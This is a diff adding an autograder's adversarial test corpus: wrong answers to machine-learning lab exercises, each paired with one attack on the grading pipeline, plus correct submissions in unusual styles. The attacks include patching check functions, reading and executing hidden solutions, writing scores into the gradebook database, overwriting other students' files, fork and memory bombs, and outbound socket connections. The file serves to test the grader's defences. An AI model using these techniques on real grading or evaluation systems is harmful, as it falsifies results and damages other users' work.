@@ -1,0 +1,399 @@
+'''The adversarial corpus: wrong or partial submissions, each combined with ONE attack on the grading pipeline,
+and correct submissions written in unusual but legitimate ways (tests/test_grading_adversarial.py grades them).
+
+Each ``Submission`` starts from the lab's solution answers (grading/sample_class/make_sample_class.py:
+``solution_answers``) put into the released notebook, then overrides some answer cells (``answers``: grade_id ->
+code) and optionally edits the notebook's structure (``edit``: a name in ``EDITS``). ``zero`` lists the exercises
+that must earn nothing (the wrong part; an attack never turns it into points); every other exercise must keep its
+full automatic points. ``flags`` must all be in the student's flags; ``forbidden_flags`` must not be.
+
+An attack is written so that, if it WORKED, the wrong answer would turn into a right one (or the grade would
+change): it exec's the solution it found, answers correctly when the hidden seed leaks, writes scores into the
+gradebook it reached, and so on. Placeholders filled in by the test: @WORK@ (the course directory, an absolute
+path), @REPO@, @TOKEN@ (unique per run: names of files that must not appear), @PORT@ (a TCP listener of the test's
+on 127.0.0.1 that must see no connection), @LAB@, @NB@ (the notebook's file name), @ME@ (the student id).
+'''
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+LAB1, LAB2, LAB3 = "lab01-gradient-descent", "lab02-backpropagation", "lab03-optimizers"
+
+
+@dataclass(frozen=True)
+class Submission:
+    student: str
+    lab: str
+    attack: str                      # what it tries (one attack)
+    wrong: str                       # what is wrong in the answer ("" for a correct submission)
+    answers: dict = field(default_factory=dict)   # grade_id -> code (the rest: the solution's answer)
+    zero: tuple = ()                 # exercises that must earn 0
+    flags: frozenset = frozenset()   # must be among the student's flags
+    forbidden_flags: frozenset = frozenset()
+    edit: str | None = None          # a structural edit of the notebook (EDITS in the test)
+
+
+# Files an attack tries to create outside its sandbox; none may exist after grading (checked for every lab).
+FORBIDDEN_FILES = [
+    "@WORK@/pwned_@TOKEN@.txt",                # the course directory
+    "@WORK@/submitted/@ME@/@LAB@/pwned_@TOKEN@.txt",   # next to the submitted notebook
+    "@REPO@/pwned_@TOKEN@",
+    "@REPO@/lablib/pwned_@TOKEN@.py",          # the library every later kernel imports
+    "/tmp/pwned_@TOKEN@",
+    "/work/pwned_@TOKEN@",
+    "/root/pwned_@TOKEN@",
+]
+
+# ---------------------------------------------------------------------------------------------------------
+# Wrong answers (the exercise they belong to is the key)
+
+F_2X = "def f(x):\n    return 2 * x\n"
+DF_SQ = "def df(x):\n    return x ** 2\n"
+GD_OFF_BY_ONE = ("def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    xs = [np.asarray(x0, dtype=float)]\n"
+                 "    for _ in range(n_steps - 1):\n        g = grad(xs[-1])\n"
+                 "        if tol is not None and np.linalg.norm(g) < tol:\n            break\n"
+                 "        xs.append(xs[-1] - lr * g)\n    return np.array(xs)\n")
+GD_ASCENT = GD_OFF_BY_ONE.replace("n_steps - 1", "n_steps").replace("xs[-1] - lr", "xs[-1] + lr")
+
+DENSE_FORWARD_NO_BIAS = "def dense_forward(x, W, b):\n    return x @ W, (x, W)\n"
+DENSE_BACKWARD_MEAN = ("def dense_backward(dout, cache):\n    x, W = cache\n    n = x.shape[0]\n"
+                       "    return dout @ W.T, x.T @ dout / n, dout.sum(axis=0) / n\n")
+SOFTMAX_NO_MEAN_GRAD = ("def softmax_cross_entropy(logits, y):\n    n = logits.shape[0]\n"
+                        "    shifted = logits - logits.max(axis=1, keepdims=True)\n"
+                        "    log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))\n"
+                        "    loss = -log_p[np.arange(n), y].mean()\n    dlogits = np.exp(log_p)\n"
+                        "    dlogits[np.arange(n), y] -= 1.0\n    return loss, dlogits\n")      # gradient not / n
+NUMGRAD_FORWARD_DIFF = ("def numerical_gradient(f, x, h=1e-5):\n    grad = np.zeros_like(x)\n    fx = f(x)\n"
+                        "    for i in np.ndindex(x.shape):\n        old = x[i]\n        x[i] = old + h\n"
+                        "        grad[i] = (f(x) - fx) / h\n        x[i] = old\n    return grad\n")
+GRADIENTS_222_SIGN = ("def gradients_222(w):\n    outputs = forward_222(w)\n"
+                      "    h1, h2, o1, o2 = outputs['out_h1'], outputs['out_h2'], outputs['out_o1'], outputs['out_o2']\n"
+                      "    d1, d2 = (T1 - o1) * o1 * (1 - o1), (T2 - o2) * o2 * (1 - o2)\n"     # sign flipped
+                      "    e1 = (d1 * w['w5'] + d2 * w['w7']) * h1 * (1 - h1)\n"
+                      "    e2 = (d1 * w['w6'] + d2 * w['w8']) * h2 * (1 - h2)\n"
+                      "    return {'w1': e1 * I1, 'w2': e1 * I2, 'w3': e2 * I1, 'w4': e2 * I2,\n"
+                      "            'w5': d1 * h1, 'w6': d1 * h2, 'w7': d2 * h1, 'w8': d2 * h2}\n")
+
+MINIBATCHES_NO_SHUFFLE = ("def minibatches(X, y, batch_size, rng=None, shuffle=True):\n    n = X.shape[0]\n"
+                          "    for start in range(0, n, batch_size):\n"
+                          "        yield X[start:start + batch_size], y[start:start + batch_size]\n")
+MOMENTUM_EMA = ("def sgd_momentum_step(x, grad, state, lr, momentum=0.9):\n"
+                "    g = momentum * state.get('g', 0.0) + (1 - momentum) * np.asarray(grad, dtype=float)\n"
+                "    return x - lr * g, {'g': g}\n")
+ADAGRAD_NO_SQRT = ("def adagrad_norm_step(x, grad, state, lr, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
+                   "    S = state.get('S', 0.0) + np.sum(grad ** 2)\n    return x - lr / (eps + S) * grad, {'S': S}\n")
+RMSPROP_SWAPPED = ("def rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
+                   "    s = (1 - rho) * state.get('s', 0.0) + rho * grad ** 2\n"
+                   "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")
+ADAM_NO_BIAS = ("def adam_step(x, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8):\n"
+                "    grad = np.asarray(grad, dtype=float)\n"
+                "    m = beta1 * state.get('m', 0.0) + (1 - beta1) * grad\n"
+                "    v = beta2 * state.get('v', 0.0) + (1 - beta2) * grad ** 2\n"
+                "    return x - lr * m / (np.sqrt(v) + eps), {'m': m, 'v': v}\n")
+
+# ---------------------------------------------------------------------------------------------------------
+# Attack snippets that are used more than once
+
+FIND_SOLUTION = '''
+import glob, json, os, time
+
+
+def _find_solution(needle):
+    """The source notebook's solution cell defining `needle`: known paths, then globs up from the cwd."""
+    paths = ["../../../solutions/@LAB@/@NB@", "@REPO@/solutions/@LAB@/@NB@", "@WORK@/solutions/@LAB@/@NB@",
+             "@REPO@/grading/sample_class/../../solutions/@LAB@/@NB@"]
+    here = os.path.abspath(os.getcwd())
+    while True:
+        for depth in range(1, 4):
+            paths += glob.glob(os.path.join(here, *["*"] * depth, "*.ipynb"))
+        if os.path.dirname(here) == here:
+            break
+        here = os.path.dirname(here)
+    deadline = time.monotonic() + 2.0
+    for top in ("/work", "/srv", "/opt", "/var", "/data"):
+        for root, dirs, files in os.walk(top):
+            if time.monotonic() > deadline:
+                break
+            paths += [os.path.join(root, name) for name in files if name.endswith(".ipynb")]
+    for path in paths:
+        try:
+            with open(path) as fh:
+                cells = json.load(fh)["cells"]
+        except Exception:
+            continue
+        for cell in cells:
+            src = "".join(cell.get("source", ""))
+            if "### BEGIN SOLUTION" in src and f"def {needle}(" in src:
+                return src
+    return None
+'''
+
+# ---------------------------------------------------------------------------------------------------------
+# The corpus
+
+SUBMISSIONS = [
+    # ---------------- lab01: f (1+1), df (1+1), gradient_descent (2+2)
+    Submission("a01_shadow_abs", LAB1, "shadows the builtin abs (abs = lambda v: 0)", "f returns 2x",
+               {"f": "abs = lambda v: 0\n\n\n" + F_2X}, zero=("f",), flags=frozenset({"tamper_suspect"})),
+    Submission("a02_patch_np_abs", LAB1, "replaces numpy's np.abs (the check compares with it) by zeros",
+               "f returns 2x",
+               {"f": F_2X + "\n\nnp.abs = lambda a, *args, **kwargs: np.zeros_like(np.asarray(a, dtype=float))\n"},
+               zero=("f",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
+    Submission("a03_redefine_check", LAB1, "redefines check() in an answer cell", "df returns x**2",
+               {"df": DF_SQ + "\n\ndef check(*args, **kwargs):\n    print('✓ all checks passed')\n"},
+               zero=("df",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
+    Submission("a04_input_transformer", LAB1, "IPython input transformer that blanks every later cell",
+               "f returns 2x",
+               {"f": F_2X + "\n\nget_ipython().input_transformers_post.append(lambda lines: [])\n"},
+               zero=("f",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
+    Submission("a05_events_hook", LAB1, "pre_run_cell hook that swaps check for a no-op before every cell",
+               "df returns x**2",
+               {"df": DF_SQ + "\n\nget_ipython().events.register('pre_run_cell', lambda *a: "
+                              "get_ipython().user_ns.update(check=lambda *a, **k: print('✓')))\n"},
+               zero=("df",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
+    Submission("a06_showtraceback", LAB1, "get_ipython().showtraceback = no-op (errors leave no output)",
+               "gradient ascent",
+               {"gradient_descent": GD_ASCENT + "\n\nget_ipython().showtraceback = lambda *a, **k: None\n"},
+               # the kernel still reports the error (the pass is not forged), so no unconfirmed_pass is due
+               zero=("gradient_descent",), flags=frozenset({"tamper_suspect"})),
+    Submission("a07_read_source", LAB1, "reads the source notebook (relative, absolute, globs up the tree) "
+               "and exec's its solution", "f returns 2x",
+               {"f": FIND_SOLUTION + "\n_LEAK = _find_solution('f')\n\n\ndef f(x):\n    if _LEAK:\n"
+                     "        ns = {}\n        exec(_LEAK, ns)\n        return ns['f'](x)\n    return 2 * x\n"},
+               zero=("f",), flags=frozenset({"tamper_suspect"})),
+    Submission("a08_gradebook", LAB1, "finds gradebook.db (walking up from the cwd, and by the course's "
+               "absolute path) and writes scores into it with sqlite3", "df returns x**2",
+               {"df": ("import os, sqlite3\n\n\ndef _pwn_gradebook():\n    paths, here = ['@WORK@/gradebook.db'], os.getcwd()\n"
+                       "    while True:\n        paths += [os.path.join(here, 'gradebook.db'), "
+                       "os.path.join(here, 'grading', 'gradebook.db')]\n"
+                       "        if os.path.dirname(here) == here:\n            break\n        here = os.path.dirname(here)\n"
+                       "    hits = []\n    for path in paths:\n        if os.path.exists(path):\n            try:\n"
+                       "                con = sqlite3.connect(path)\n"
+                       "                con.execute('UPDATE grade SET manual_score = 100, auto_score = 100')\n"
+                       "                con.commit()\n                hits.append(path)\n            except Exception:\n"
+                       "                pass\n    return hits\n\n\n_PWNED = _pwn_gradebook()\n\n\n"
+                       "def df(x):\n    return 2.0 * x if _PWNED else x ** 2\n")},
+               zero=("df",), flags=frozenset({"tamper_suspect"})),
+    Submission("a09_delete_tests", LAB1, "deletes f's public and hidden test cells", "f returns 2x",
+               {"f": F_2X}, zero=("f",), flags=frozenset({"restored_cells"}), edit="delete_f_tests"),
+    Submission("a10_swap_ids", LAB1, "swaps the grade_ids of the f and df answer cells", "f returns 2x",
+               {"f": F_2X}, zero=("f",), edit="swap_f_df_ids"),
+    Submission("a11_sigint_loop", LAB1, "ignores SIGINT and loops forever inside the function",
+               "gradient_descent never returns",
+               {"gradient_descent": ("import signal\n\n\ndef gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
+                                     "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n"
+                                     "        pass\n")},
+               zero=("gradient_descent",), flags=frozenset({"timeout", "tamper_suspect"})),
+    Submission("a12_env_seed", LAB1, "reads LABLIB_HIDDEN_SEED from the environment (answers right if present)",
+               "f returns 2x unless the seed leaks",
+               {"f": ("import os\n\n_SEED = os.environ.get('LABLIB_HIDDEN_SEED')\nprint('seed:', _SEED)\n\n\n"
+                      "def f(x):\n    return x * x if _SEED else 2 * x\n")},
+               zero=("f",), flags=frozenset({"tamper_suspect"})),
+    Submission("a13_reference_landscapes", LAB1, "calls lablib's reference (lablib.landscapes.square)",
+               "f not implemented: lablib's square",
+               {"f": "from lablib.landscapes import square\n\n\ndef f(x):\n    return square(x)\n"}, zero=("f",),
+               flags=frozenset({"tamper_suspect"})),
+    Submission("a14_eq_object", LAB1, "returns an object whose __eq__ is always True", "no iterates computed",
+               {"gradient_descent": ("class Anything:\n    def __eq__(self, other):\n        return True\n\n"
+                                     "    def __ne__(self, other):\n        return False\n\n"
+                                     "    __hash__ = object.__hash__\n\n\n"
+                                     "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    return Anything()\n")},
+               zero=("gradient_descent",)),
+    Submission("c01_loops_helpers_plots", LAB1, "(correct) pure-Python loops, helpers, print, warnings.warn, "
+               "a matplotlib plot in the answer cell", "",
+               {"f": ("def _times(a, b):\n    return a * b\n\n\ndef f(x):\n    print('f called')\n"
+                      "    return _times(x, x)\n"),
+                "df": "def df(x):\n    total = 0\n    for _ in range(2):\n        total = total + x\n    return total\n",
+                "gradient_descent": (
+                    "import math\nimport warnings\n\nimport matplotlib.pyplot as plt\n\n\ndef _norm(g):\n"
+                    "    return math.sqrt(sum(float(v) ** 2 for v in np.ravel(g)))\n\n\n"
+                    "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    x = np.array(x0, dtype=float)\n"
+                    "    path = [x]\n    step = 0\n    while step < n_steps:\n        g = grad(x)\n"
+                    "        if tol is not None and _norm(g) < tol:\n            break\n"
+                    "        x = x - lr * g\n        path.append(x)\n        step += 1\n"
+                    "    if lr > 0.5:\n        warnings.warn('a large learning rate')\n    return np.array(path)\n\n\n"
+                    "_path = gradient_descent(lambda v: 2 * v, 1.0, 0.1, 20)\nfig, ax = plt.subplots()\n"
+                    "ax.plot(_path, marker='o')\nax.set_title('my path')\nplt.show()\n")},
+               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
+    Submission("c02_recursion", LAB1, "(correct) recursive gradient descent with helpers, np.square, np.multiply",
+               "",
+               {"f": "def f(x):\n    return np.square(x)\n",
+                "df": "def df(x):\n    return np.multiply(2, x)\n",
+                "gradient_descent": (
+                    "def _small(g, tol):\n    return tol is not None and np.sqrt(np.sum(np.square(g))) < tol\n\n\n"
+                    "def _descend(grad, x, lr, left, tol):\n    if left == 0 or _small(grad(x), tol):\n        return [x]\n"
+                    "    return [x] + _descend(grad, x - lr * grad(x), lr, left - 1, tol)\n\n\n"
+                    "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
+                    "    return np.array(_descend(grad, np.asarray(x0, dtype=float), lr, n_steps, tol))\n")},
+               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
+
+    # ---------------- lab02: forward_222 1+1, gradients_222 2+2, dense_forward 1+1, dense_backward 1+1,
+    #                         softmax_cross_entropy 2+2, numerical_gradient 1+1
+    Submission("b01_shadow_len_isinstance", LAB2, "shadows the builtins len and isinstance",
+               "dense_backward divides by the batch size",
+               {"dense_backward": "len = lambda v: 1\nisinstance = lambda *a, **k: True\n\n\n" + DENSE_BACKWARD_MEAN},
+               zero=("dense_backward",), flags=frozenset({"tamper_suspect"})),
+    Submission("b02_patch_isclose_allclose", LAB2, "math.isclose, np.allclose, np.testing.assert_allclose "
+               "replaced by always-agree", "softmax gradient not divided by N",
+               {"softmax_cross_entropy": SOFTMAX_NO_MEAN_GRAD + (
+                   "\n\nimport math\nmath.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
+                   "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)\n"
+                   "np.testing.assert_allclose = lambda *a, **k: None\n")},
+               zero=("softmax_cross_entropy",), flags=frozenset({"tamper_suspect"})),
+    Submission("b03_patch_check_module", LAB2, "import lablib.grading as g; g.check = print-a-tick",
+               "numerical_gradient uses forward differences",
+               {"numerical_gradient": NUMGRAD_FORWARD_DIFF + (
+                   "\n\nimport lablib.grading as g\nimport lablib.grading.engine as e\n"
+                   "g.check = e.check = lambda *a, **k: print('✓')\n")},
+               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
+    Submission("b04_patch_compare", LAB2, "lablib.grading.engine.compare patched to return None",
+               "dense_forward forgets the bias",
+               {"dense_forward": DENSE_FORWARD_NO_BIAS + (
+                   "\n\nimport lablib.grading.engine as _engine\n_engine.compare = lambda *a, **k: None\n"
+                   "_engine.same = lambda *a, **k: True\n")},
+               zero=("dense_forward",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
+    Submission("b05_checkfailure", LAB2, "CheckFailure rebound (module and notebook) to a harmless class",
+               "gradients_222 has its sign flipped",
+               {"gradients_222": GRADIENTS_222_SIGN + (
+                   "\n\nimport lablib.grading as _g\nimport lablib.grading.engine as _e\n"
+                   "class CheckFailure(Exception):\n    pass\n\n\n_g.CheckFailure = _e.CheckFailure = CheckFailure\n")},
+               zero=("gradients_222",), flags=frozenset({"tamper_suspect"})),
+    Submission("b06_excepthook_xmode", LAB2, "sys.excepthook silenced and %xmode Minimal",
+               "dense_backward divides by the batch size",
+               {"dense_backward": DENSE_BACKWARD_MEAN + (
+                   "\n\nimport sys\nsys.excepthook = lambda *a: None\n%xmode Minimal\n")},
+               zero=("dense_backward",), flags=frozenset({"tamper_suspect"})),
+    Submission("b07_retag_rename", LAB2, "renames the public test cell's grade_id (and blanks it), re-tags the "
+               "hidden one as markdown", "softmax gradient not divided by N",
+               {"softmax_cross_entropy": SOFTMAX_NO_MEAN_GRAD}, zero=("softmax_cross_entropy",),
+               flags=frozenset({"restored_cells"}), edit="retag_softmax_tests"),
+    Submission("b08_sys_exit_in_function", LAB2, "sys.exit() inside the function", "numerical_gradient exits",
+               {"numerical_gradient": "import sys\n\n\ndef numerical_gradient(f, x, h=1e-5):\n    sys.exit(0)\n"},
+               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
+    # (not in dense_forward: dense_backward's check builds its cache with the student's own dense_forward)
+    Submission("b09_os_exit_in_function", LAB2, "os._exit(0) inside the function",
+               "softmax_cross_entropy kills its process",
+               {"softmax_cross_entropy": "import os\n\n\ndef softmax_cross_entropy(logits, y):\n    os._exit(0)\n"},
+               zero=("softmax_cross_entropy",), flags=frozenset({"tamper_suspect", "sandbox_died", "kernel_died"})),
+    Submission("b10_huge_output", LAB2, "prints 50 MB in the answer cell", "gradients_222 has its sign flipped",
+               {"gradients_222": GRADIENTS_222_SIGN + "\n\nprint('x' * 50_000_000)\n"}, zero=("gradients_222",),
+               flags=frozenset({"huge_output"})),
+    Submission("b11_write_files", LAB2, "writes files next to the notebook, into the course dir (overwriting an "
+               "honest student's submission), the repository, /tmp, /work, /root and home",
+               "numerical_gradient uses forward differences",
+               {"numerical_gradient": (
+                   "import os\n\nfor _target in ['pwned_local.txt', os.path.expanduser('~/pwned_home.txt'),\n"
+                   "                '@WORK@/pwned_@TOKEN@.txt', '@WORK@/submitted/@ME@/@LAB@/pwned_@TOKEN@.txt',\n"
+                   "                '@WORK@/submitted/zzz_honest/@LAB@/@NB@', '@WORK@/submitted/aaa_honest/@LAB@/@NB@',\n"
+                   "                '@REPO@/pwned_@TOKEN@', '@REPO@/lablib/pwned_@TOKEN@.py',\n"
+                   "                '/tmp/pwned_@TOKEN@', '/work/pwned_@TOKEN@', '/root/pwned_@TOKEN@']:\n"
+                   "    try:\n        with open(_target, 'w') as _fh:\n            _fh.write('{}')\n"
+                   "    except Exception as _exc:\n        print(_target, type(_exc).__name__)\n\n\n"
+                   + NUMGRAD_FORWARD_DIFF)},
+               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
+    Submission("b12_ndarray_subclass", LAB2, "returns an ndarray subclass whose __sub__/__abs__/__eq__ lie",
+               "dense_forward returns zeros",
+               {"dense_forward": (
+                   "class Agreeable(np.ndarray):\n    def __sub__(self, other):\n        return np.zeros(self.shape)\n\n"
+                   "    __rsub__ = __sub__\n\n    def __abs__(self):\n        return np.zeros(self.shape)\n\n"
+                   "    def __eq__(self, other):\n        return np.ones(self.shape, dtype=bool)\n\n"
+                   "    __hash__ = None\n\n\n"
+                   "def dense_forward(x, W, b):\n    out = np.zeros((x.shape[0], W.shape[1])).view(Agreeable)\n"
+                   "    return out, (x, W)\n")},
+               zero=("dense_forward",)),
+    Submission("c03_einsum_loops", LAB2, "(correct) einsum, explicit loops, helpers, print, warnings.warn", "",
+               {"dense_forward": ("def dense_forward(x, W, b):\n    print('forward', x.shape, W.shape)\n"
+                                  "    return np.einsum('nd,dm->nm', x, W) + b, (x, W)\n"),
+                "dense_backward": ("def dense_backward(dout, cache):\n    x, W = cache\n    db = np.zeros(dout.shape[1])\n"
+                                   "    for row in dout:\n        db = db + row\n"
+                                   "    return np.einsum('nm,dm->nd', dout, W), np.einsum('nd,nm->dm', x, dout), db\n"),
+                "softmax_cross_entropy": (
+                    "import warnings\n\n\ndef _log_softmax_row(z):\n    z = z - z.max()\n"
+                    "    return z - np.log(np.sum(np.exp(z)))\n\n\ndef softmax_cross_entropy(logits, y):\n"
+                    "    n = logits.shape[0]\n    rows = [_log_softmax_row(logits[i]) for i in range(n)]\n"
+                    "    loss = -sum(rows[i][y[i]] for i in range(n)) / n\n"
+                    "    grad = np.array([np.exp(r) for r in rows]).reshape(logits.shape)\n"
+                    "    for i in range(n):\n        grad[i, y[i]] -= 1.0\n"
+                    "    if n > 1000:\n        warnings.warn('a large batch')\n    return loss, grad / n\n")},
+               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
+
+    # ---------------- lab03: minibatches 2+2, sgd_momentum_step 2+2, adagrad_norm_step 2+2, rmsprop_step 2+2,
+    #                         adam_step 2+2
+    Submission("d01_sys_exit_in_cell", LAB3, "sys.exit() at the end of an answer cell",
+               "momentum as an EMA (1 - momentum)",
+               {"sgd_momentum_step": MOMENTUM_EMA + "\n\nimport sys\nsys.exit('done')\n"},
+               zero=("sgd_momentum_step",), flags=frozenset({"tamper_suspect"})),
+    Submission("d02_os_exit_in_cell", LAB3, "os._exit(0) at the end of an answer cell", "rho and 1 - rho swapped",
+               {"rmsprop_step": RMSPROP_SWAPPED + "\n\nimport os\nos._exit(0)\n"},
+               zero=("rmsprop_step",), flags=frozenset({"tamper_suspect", "kernel_died"})),
+    Submission("d03_fork_bomb", LAB3, "fork bomb inside the function (bounded: 10000 forks in a try)",
+               "Adam without bias correction",
+               {"adam_step": ADAM_NO_BIAS.replace(
+                   "    grad = np.asarray(grad, dtype=float)\n",
+                   "    grad = np.asarray(grad, dtype=float)\n    import os\n    try:\n        for _ in range(10000):\n"
+                   "            os.fork()\n    except OSError:\n        pass\n")},
+               zero=("adam_step",), flags=frozenset({"tamper_suspect"})),
+    Submission("d04_memory_bomb", LAB3, "allocates up to 8 GiB in 512 MiB chunks (in a try) in the answer cell",
+               "AdaGrad-Norm without the square root",
+               {"adagrad_norm_step": ("_hog = []\ntry:\n    for _ in range(16):\n"
+                                      "        _hog.append(np.ones((512 << 20) // 8))\nexcept MemoryError:\n"
+                                      "    pass\nprint('allocated', len(_hog), 'chunks')\n_hog.clear()\n\n\n"
+                                      + ADAGRAD_NO_SQRT)},
+               zero=("adagrad_norm_step",)),
+    Submission("d05_network", LAB3, "opens sockets to 127.0.0.1 (a listener of the test's) and pypi.org:443",
+               "rho and 1 - rho swapped (right only if the network answered)",
+               {"rmsprop_step": (
+                   "import socket\n\n\ndef _reach():\n"
+                   "    for host, port in (('127.0.0.1', @PORT@), ('pypi.org', 443)):\n        try:\n"
+                   "            with socket.create_connection((host, port), timeout=1) as s:\n"
+                   "                s.sendall(b'@ME@')\n            return True\n        except OSError:\n"
+                   "            pass\n    return False\n\n\n_NET = _reach()\n\n\n"
+                   "def rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
+                   "    if _NET:\n        s = rho * state.get('s', 0.0) + (1 - rho) * grad ** 2\n    else:\n"
+                   "        s = (1 - rho) * state.get('s', 0.0) + rho * grad ** 2\n"
+                   "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")},
+               zero=("rmsprop_step",), flags=frozenset({"tamper_suspect"})),
+    Submission("d06_reference_optim", LAB3, "calls lablib.optim.adam_step (the reference) instead of implementing",
+               "adam_step not implemented: lablib's",
+               {"adam_step": ("from lablib import optim as _optim\n\n\n"
+                              "def adam_step(x, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8):\n"
+                              "    mine = {k: (np.array(v, copy=True) if k != 't' else v) for k, v in state.items()}\n"
+                              "    new_x = np.array(x, dtype=float, copy=True)\n"
+                              "    _optim.adam_step([new_x], [np.asarray(grad, dtype=float)], mine, lr=lr, beta1=beta1,\n"
+                              "                     beta2=beta2, eps=eps)\n    return new_x, mine\n")},
+               zero=("adam_step",), flags=frozenset({"tamper_suspect"})),
+    Submission("d07_metadata_points", LAB3, "edits metadata: test points 100, hidden test not graded, the answer "
+               "cell graded with 50 points, locked flags off", "minibatches never shuffles",
+               {"minibatches": MINIBATCHES_NO_SHUFFLE}, zero=("minibatches",), edit="inflate_minibatches_points",
+               flags=frozenset({"restored_cells"})),
+    Submission("d08_glob_solutions", LAB3, "globs for *.ipynb up the tree and across /work and exec's the "
+               "solution it finds", "momentum as an EMA (right only with the leaked solution)",
+               {"sgd_momentum_step": FIND_SOLUTION + (
+                   "\n_LEAK = _find_solution('sgd_momentum_step')\n\n\n"
+                   "def sgd_momentum_step(x, grad, state, lr, momentum=0.9):\n    if _LEAK:\n        ns = {'np': np}\n"
+                   "        exec(_LEAK, ns)\n        return ns['sgd_momentum_step'](x, grad, state, lr, momentum)\n"
+                   "    g = momentum * state.get('g', 0.0) + (1 - momentum) * np.asarray(grad, dtype=float)\n"
+                   "    return x - lr * g, {'g': g}\n")},
+               zero=("sgd_momentum_step",), flags=frozenset({"tamper_suspect"})),
+    Submission("c04_loops_prints_warns", LAB3, "(correct) while loops, pure-Python sums, helpers, print, "
+               "warnings.warn", "",
+               {"minibatches": ("def minibatches(X, y, batch_size, rng=None, shuffle=True):\n"
+                                "    order = list(rng.permutation(len(X))) if shuffle else list(range(len(X)))\n"
+                                "    start = 0\n    while start < len(order):\n"
+                                "        rows = np.array(order[start:start + batch_size], dtype=int)\n"
+                                "        yield X[rows], y[rows]\n        start += batch_size\n"),
+                "adagrad_norm_step": ("import math\n\n\ndef _squared_norm(g):\n    total = 0.0\n"
+                                      "    for v in np.ravel(g):\n        total += float(v) * float(v)\n    return total\n\n\n"
+                                      "def adagrad_norm_step(x, grad, state, lr, eps=1e-8):\n"
+                                      "    S = state.get('S', 0.0) + _squared_norm(grad)\n"
+                                      "    print('S =', S)\n"
+                                      "    return x - lr / math.sqrt(eps + S) * np.asarray(grad, dtype=float), {'S': S}\n"),
+                "rmsprop_step": ("import warnings\n\n\ndef rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n"
+                                 "    if lr > 0.1:\n        warnings.warn('lr is large for RMSprop')\n"
+                                 "    grad = np.asarray(grad, dtype=float)\n"
+                                 "    s = rho * state.get('s', 0.0) + (1 - rho) * grad * grad\n"
+                                 "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")},
+               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
+]
+
+HONEST = ("aaa_honest", "zzz_honest")   # the solution's answers, in every lab's course run: always full marks
